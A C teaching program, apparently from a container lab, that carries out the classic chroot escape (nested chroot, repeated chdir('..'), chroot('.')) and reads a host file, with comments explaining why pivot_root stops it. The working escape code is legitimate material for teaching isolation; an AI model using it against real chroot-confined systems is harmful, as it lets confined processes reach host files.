/* breakout.c: the classic chroot escape, and why lab 03 uses pivot_root instead.
 *
 * chroot(2) changes the root directory of one process and nothing else. It does not even
 * change the current directory. A root process inside a chroot can therefore:
 *   1. chroot() into a subdirectory: the root moves down, but the current directory stays
 *      where it was, which is now *above* the new root;
 *   2. chdir("..") over and over: ".." stops only at the process's root, and the current
 *      directory is not below it any more, so it climbs to the real "/";
 *   3. chroot(".") there: the process's root is the host's root again.
 * Under pivot_root the host's root is not mounted in the container's mount namespace at all,
 * so the walk ends at the container's own "/" and there is nothing to climb to.
 *
 * Usage: breakout FILE   (FILE: a path on the host, outside the container's root)
 * Build: gcc -static -o rootfs/breakout breakout.c   (static: the rootfs has no libc)
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  const char *secret = argc > 1 ? argv[1] : "/etc/hostname";

  int start = open(".", O_RDONLY | O_DIRECTORY);  /* only to remove breakout.d at the end */
  mkdir("breakout.d", 0700);                 /* 1. a directory to chroot into */
  if (chroot("breakout.d") != 0) {
    perror("chroot");
    return 1;
  }
  for (int i = 0; i < 100; i++) chdir("..");  /* 2. climb past the (old) root */
  chroot(".");                                /* 3. make where we ended up the root */
  unlinkat(start, "breakout.d", AT_REMOVEDIR);

  FILE *f = fopen(secret, "r");
  if (!f) {
    printf("still inside: %s does not exist here\n", secret);
    return 1;
  }
  char line[256] = "";
  if (!fgets(line, sizeof line, f)) line[0] = '\0';
  printf("escaped! %s says: %s", secret, line);
  fclose(f);
  return 0;
}
